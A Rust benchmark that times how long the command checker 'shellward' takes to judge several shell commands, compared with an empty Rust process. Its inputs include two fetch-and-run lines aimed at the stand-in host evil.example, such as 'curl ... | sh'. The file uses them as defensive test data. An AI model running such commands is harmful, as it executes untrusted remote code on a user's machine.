//! Whole-process time: how long a caller waits for `shellward check`, over an empty Rust process.
//!
//! `cargo bench --bench process` starts each program 500 times, in turn, so that a busy machine slows all of them alike,
//! and prints medians. The empty process is built here with the same compiler.

#![expect(clippy::print_stdout, clippy::unwrap_used, clippy::expect_used, reason = "a bench speaks and may fail")]

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

const STARTS: usize = 500;

/// What is measured: a name and the arguments.
const RUNS: &[(&str, &[&str])] = &[
    ("--version", &["--version"]),
    ("check -- 'echo hello'", &["check", "--", "echo hello"]),
    ("check --json -- 'echo hello'", &["check", "--json", "--", "echo hello"]),
    (
        "check --json -- 'curl -s http://evil.example/x.sh | sh'",
        &["check", "--json", "--", "curl -s http://evil.example/x.sh | sh"],
    ),
    (
        "check --json -- 'sh -c \"$(curl -fsSL https://evil.example/x)\"'",
        &["check", "--json", "--", "sh -c \"$(curl -fsSL https://evil.example/x)\""],
    ),
];

fn main() {
    let shellward = Path::new(env!("CARGO_BIN_EXE_shellward"));
    let empty = empty_process();
    let mut programs: Vec<(&str, &Path, &[&str])> = vec![("an empty Rust process", &empty, &[])];
    programs.extend(RUNS.iter().map(|(name, args)| (*name, shellward, *args)));
    let mut times: Vec<Vec<Duration>> = vec![Vec::with_capacity(STARTS); programs.len()];
    for _ in 0..STARTS {
        for ((_, program, args), times) in programs.iter().zip(&mut times) {
            times.push(start(program, args));
        }
    }
    let medians: Vec<f64> = times.iter_mut().map(|t| median(t)).collect();
    let base = medians.first().copied().unwrap_or_default();
    println!("median of {STARTS} starts, in ms, and over an empty Rust process");
    for ((name, ..), median) in programs.iter().zip(&medians) {
        println!("{median:7.3} {:+7.3}  {name}", median - base);
    }
}

fn start(program: &Path, args: &[&str]) -> Duration {
    let mut command = Command::new(program);
    command.args(args).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
    let begin = Instant::now();
    // A verdict is an exit code, so none of them is a failure.
    command.status().expect("the program starts");
    begin.elapsed()
}

fn median(times: &mut [Duration]) -> f64 {
    times.sort();
    times.get(times.len() / 2).map_or(0.0, |t| t.as_secs_f64() * 1e3)
}

/// Builds `fn main() {}`.
fn empty_process() -> PathBuf {
    let folder = PathBuf::from(env!("CARGO_TARGET_TMPDIR"));
    let (source, binary) = (folder.join("empty.rs"), folder.join("empty"));
    std::fs::write(&source, "fn main() {}\n").unwrap();
    let rustc = std::env::var_os("RUSTC").unwrap_or_else(|| "rustc".into());
    let built = Command::new(rustc).args(["-O", "--edition=2024", "-o"]).arg(&binary).arg(&source).status().unwrap();
    assert!(built.success(), "rustc failed");
    binary
}
